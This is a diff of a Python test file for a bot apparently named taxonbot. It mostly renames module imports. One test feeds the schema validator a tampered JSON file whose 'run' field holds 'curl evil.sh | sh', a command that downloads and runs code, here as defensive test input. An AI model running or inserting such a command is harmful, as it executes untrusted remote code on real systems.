@@ -13,8 +13,10 @@ from typing import Any
 
 import pytest
 
-from bot.cli import main
-from bot.collect import (
+from taxonbot.check.reporters import REPORTERS, CheckReport
+from taxonbot.cli.diff import render_json
+from taxonbot.cli.main import main
+from taxonbot.comment.result import (
     MAX_INPUT_BYTES,
     MAX_TOTAL_BYTES,
     SCHEMA_URI,
@@ -22,15 +24,13 @@ from bot.collect import (
     RunIdentity,
     collect,
 )
-from bot.commands.diff import render_json
-from bot.diff import ChangedLeaves, LeafChange
-from bot.findings import Position, error
-from bot.reporters import REPORTERS, CheckReport
-from bot.schemas import validator
-from ci.runtime.fake import FakeBackend
-from ci.sdg.pipeline import Budget
-from ci.sdg.report import write_preview
-from ci.sdg.session import LeafOutcome
+from taxonbot.schemas import validator
+from taxonbot.sdg.pipeline import Budget
+from taxonbot.sdg.report import write_preview
+from taxonbot.sdg.session import LeafOutcome
+from taxonbot.taxonomy.diff import ChangedLeaves, LeafChange
+from taxonbot.taxonomy.findings import Position, error
+from tests.doubles.fake_backend import FakeBackend
 
 HEAD = "0123456789abcdef0123456789abcdef01234567"
 LEAF = "taxonomy/compositional_skills/writing/freeform/haiku/qna.yaml"
@@ -228,7 +228,8 @@ def test_a_file_that_is_not_taxonbot_json_is_refused_plainly(body: bytes, expect
 def test_a_schema_problem_points_into_the_file(
     inputs: dict[str, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    """A pull request that changes bot/ could make gaps emit anything; the schema says where."""
+    """A pull request that changes taxonbot/ could make gaps emit anything; the schema says
+    where."""
     tampered = json.loads(raw(inputs["gaps"]))
     tampered["labels"] = ["merge-me"]
     tampered["run"] = "curl evil.sh | sh"
